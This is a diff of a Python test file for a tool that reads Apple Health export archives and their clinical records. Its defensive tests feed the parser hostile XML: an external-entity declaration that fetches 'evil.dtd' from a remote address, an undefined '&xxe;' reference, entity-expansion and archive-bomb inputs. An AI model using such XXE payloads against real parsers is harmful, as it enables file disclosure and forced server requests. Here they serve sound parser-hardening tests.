@@ -9,69 +9,19 @@ from typing import IO
 
 import pytest
 
-from uplift.cli.push.health_export import clinical_records, count_clinical_records, is_health_export
-from uplift.cli.push.records import MAX_RECORD_BYTES, Record, Skipped, UnreadableSource
-
-DTD = """<!DOCTYPE HealthData [
-<!-- HealthKit Export Version: 14 -->
-<!ELEMENT HealthData (ExportDate,Me,(Record|ClinicalRecord)*)>
-<!ATTLIST HealthData locale CDATA #REQUIRED>
-<!ELEMENT ClinicalRecord EMPTY>
-]>"""
-CONDITION = b'{ "resourceType":"Condition",\n "id": "c1", "x": 0.40 }'
-
-
-def element(path: str = "/clinical-records/Condition-1.json", **changes: str | None) -> str:
-    attributes: dict[str, str | None] = {
-        "type": "Condition",
-        "identifier": "c1",
-        "sourceName": "Hospital &amp; Clinic",
-        "sourceURL": "https://fhir.example.org/Condition/c1",
-        "fhirVersion": "4.0.1",
-        "receivedDate": "2020-08-06 05:01:22 -0800",
-        "resourceFilePath": path,
-    }
-    attributes.update(changes)
-    written = " ".join(
-        f'{name}="{value}"' for name, value in attributes.items() if value is not None
-    )
-    return f"<ClinicalRecord {written}/>"
-
-
-def document(*elements: str, dtd: str = DTD) -> str:
-    return (
-        f'<?xml version="1.0" encoding="UTF-8"?>\n{dtd}\n<HealthData locale="en_US">\n'
-        ' <ExportDate value="2025-01-15 09:30:00 -0300"/>\n'
-        ' <Record type="HKQuantityTypeIdentifierStepCount" value="3"/>\n'
-        + "\n".join(elements)
-        + "\n</HealthData>\n"
-    )
-
-
-def archive(folder: Path, xml: str | bytes, files: dict[str, bytes] | None = None) -> Path:
-    path = folder / "export.zip"
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
-        zipped.writestr("apple_health_export/export.xml", xml)
-        zipped.writestr("apple_health_export/export_cda.xml", "<ClinicalDocument/>")
-        for name, data in (files or {"clinical-records/Condition-1.json": CONDITION}).items():
-            zipped.writestr(f"apple_health_export/{name}", data)
-    return path
-
-
-def read(path: Path, max_record_bytes: int = MAX_RECORD_BYTES) -> list[Record | Skipped]:
-    found = clinical_records(path, max_record_bytes=max_record_bytes)
-    return [item for item in found if item is not None]
-
-
-def only(found: list[Record | Skipped]) -> Record | Skipped:
-    assert len(found) == 1
-    return found[0]
-
-
-def skipped(path: Path, max_record_bytes: int = MAX_RECORD_BYTES) -> Skipped:
-    found = only(read(path, max_record_bytes))
-    assert isinstance(found, Skipped)
-    return found
+from tests.uplift.cli.push.exports import (
+    CONDITION,
+    DTD,
+    archive,
+    document,
+    element,
+    only,
+    read,
+    skipped,
+)
+from uplift.cli.push.notes import Notes
+from uplift.cli.push.records import Record, Skipped, UnreadableSource
+from uplift.cli.push.sources import count_records
 
 
 def test_a_record_comes_with_its_version_source_identifier_and_untouched_bytes(
@@ -83,8 +33,10 @@ def test_a_record_comes_with_its_version_source_identifier_and_untouched_bytes(
             fhir_version="4.0.1",
             resource_type="Condition",
             body=CONDITION,
-            source="Hospital & Clinic",
+            source="https://fhir.example.org",
             record_id="c1",
+            hospital="Hospital & Clinic",
+            date="2020-08-06",
         )
     ]
 
@@ -94,9 +46,8 @@ def test_an_unpacked_export_reads_like_the_archive(tmp_path: Path) -> None:
     with zipfile.ZipFile(path) as zipped:
         zipped.extractall(tmp_path / "unpacked")
     folder = tmp_path / "unpacked" / "apple_health_export"
-    assert is_health_export(folder)
     assert read(folder) == read(path)
-    assert count_clinical_records(folder) == count_clinical_records(path) == 1
+    assert count_records(folder) == count_records(path) == 1
 
 
 def test_the_index_may_have_a_translated_name_and_lie_at_the_top(tmp_path: Path) -> None:
@@ -106,7 +57,7 @@ def test_the_index_may_have_a_translated_name_and_lie_at_the_top(tmp_path: Path)
         zipped.writestr("Exportieren_cda.xml", "<ClinicalDocument/>")
         zipped.writestr("clinical-records/Condition-1.json", CONDITION)
     assert isinstance(only(read(path)), Record)
-    assert count_clinical_records(path) == 1
+    assert count_records(path) == 1
 
 
 def test_a_record_without_source_url_is_read(tmp_path: Path) -> None:
@@ -126,7 +77,7 @@ def test_a_record_without_a_needed_attribute_is_skipped_and_named(
 
 def test_the_version_of_old_exports_can_be_given(tmp_path: Path) -> None:
     path = archive(tmp_path, document(element(fhirVersion=None)))
-    (found,) = [item for item in clinical_records(path, fhir_version="DSTU2") if item is not None]
+    (found,) = read(path, fhir_version="DSTU2")
     assert isinstance(found, Record)
     assert found.fhir_version == "DSTU2"
 
@@ -161,11 +112,12 @@ def test_control_characters_that_xml_forbids_do_not_end_the_reading(tmp_path: Pa
 
 def test_an_index_that_breaks_off_gives_what_came_before_and_says_where(tmp_path: Path) -> None:
     xml = document(element(), "\n" * 600_000, element()).removesuffix("</HealthData>\n")
-    found = clinical_records(archive(tmp_path, xml))
-    assert isinstance(next(item for item in found if item is not None), Record)
-    assert isinstance(next(item for item in found if item is not None), Record)
-    with pytest.raises(UnreadableSource, match=r"export.xml, line \d+.*what follows was not read"):
-        list(found)
+    notes = Notes()
+    found = read(archive(tmp_path, xml), notes=notes)
+    assert [type(item) for item in found] == [Record, Record]
+    (note,) = notes.unread
+    assert note.label.startswith("export.xml, line 6000")
+    assert "ends without </HealthData>" in note.reason
 
 
 @pytest.mark.parametrize(
@@ -214,29 +166,34 @@ def test_a_link_or_a_pipe_in_an_unpacked_export_is_not_read(tmp_path: Path) -> N
         '<!ENTITY % remote SYSTEM "http://198.51.100.1/evil.dtd"> %remote;',
     ],
 )
-def test_an_index_that_defines_entities_is_refused(tmp_path: Path, declaration: str) -> None:
+def test_an_index_that_defines_entities_is_not_read(tmp_path: Path, declaration: str) -> None:
     xml = document(element(identifier="&lol2;"), dtd=f"<!DOCTYPE HealthData [{declaration}]>")
-    with pytest.raises(UnreadableSource, match="entities"):
-        read(archive(tmp_path, xml))
+    notes = Notes()
+    (found,) = read(archive(tmp_path, xml), notes=notes)
+    assert isinstance(found, Skipped)
+    assert "entities" in notes.unread[0].reason
 
 
-def test_an_entity_that_is_not_defined_is_an_error_of_the_index(tmp_path: Path) -> None:
-    with pytest.raises(UnreadableSource, match="undefined entity"):
-        read(archive(tmp_path, document(element(identifier="&xxe;"))))
+def test_an_entity_that_is_not_defined_stays_as_it_is_written(tmp_path: Path) -> None:
+    notes = Notes()
+    found = only(read(archive(tmp_path, document(element(identifier="&xxe;"))), notes=notes))
+    assert isinstance(found, Record)
+    assert found.record_id == "&xxe;"
+    assert [note.label for note in notes.passed_over] == ["export.xml, line 11"]
 
 
-def test_a_doctype_inside_the_document_is_refused(tmp_path: Path) -> None:
+def test_a_doctype_inside_the_document_defines_nothing(tmp_path: Path) -> None:
     inner = '<!DOCTYPE HealthData [<!ENTITY a "b">]>'
-    with pytest.raises(UnreadableSource):
-        read(archive(tmp_path, document(inner, element(identifier="&a;"))))
+    notes = Notes()
+    (found,) = read(archive(tmp_path, document(inner, element(identifier="&a;"))), notes=notes)
+    assert isinstance(found, Skipped)
+    assert "entities" in notes.unread[0].reason
 
 
-def test_an_index_in_utf_16_with_entities_is_refused(tmp_path: Path) -> None:
-    xml = document(element(), dtd='<!DOCTYPE HealthData [<!ENTITY a "b">]>').replace(
-        "UTF-8", "UTF-16"
-    )
-    with pytest.raises(UnreadableSource):
-        read(archive(tmp_path, xml.encode("utf-16")))
+def test_an_index_in_utf_16_is_not_read_and_its_records_are_named(tmp_path: Path) -> None:
+    xml = document(element()).replace("UTF-8", "UTF-16")
+    found = skipped(archive(tmp_path, xml.encode("utf-16")))
+    assert found.label.endswith("clinical-records/Condition-1.json")
 
 
 def write_much(file: IO[bytes], head: bytes, body: bytes, size: int) -> None:
@@ -275,10 +232,9 @@ def test_a_bomb_in_the_index_is_refused_with_bounded_memory(
     assert peak < 16 * 1024 * 1024
 
 
-def test_an_index_of_ever_new_names_is_refused(tmp_path: Path) -> None:
+def test_an_index_of_ever_new_names_costs_no_memory(tmp_path: Path) -> None:
     names = "".join(f"<n{number}/>" for number in range(60_000))
-    with pytest.raises(UnreadableSource, match="names"):
-        read(archive(tmp_path, document(names)))
+    assert isinstance(only(read(archive(tmp_path, document(names, element())))), Record)
 
 
 def test_a_large_index_is_read_with_bounded_memory(tmp_path: Path) -> None:
@@ -347,13 +303,13 @@ def test_a_damaged_record_is_skipped_and_the_rest_is_read(tmp_path: Path) -> Non
     assert isinstance(second, Record)
 
 
-def test_a_damaged_archive_is_an_error_that_says_what_to_do(tmp_path: Path) -> None:
+def test_an_index_that_is_damaged_is_told_and_so_is_each_record(tmp_path: Path) -> None:
     path = archive(tmp_path, document(element()))
     data = bytearray(path.read_bytes())
-    data[60:90] = bytes(30)
+    data[70:100] = bytes(30)
     path.write_bytes(data)
-    with pytest.raises(UnreadableSource, match="export it once more"):
-        read(path)
+    found = skipped(path)
+    assert found.label.endswith("clinical-records/Condition-1.json")
 
 
 def test_an_archive_without_an_index_is_an_error_that_says_what_to_do(tmp_path: Path) -> None:
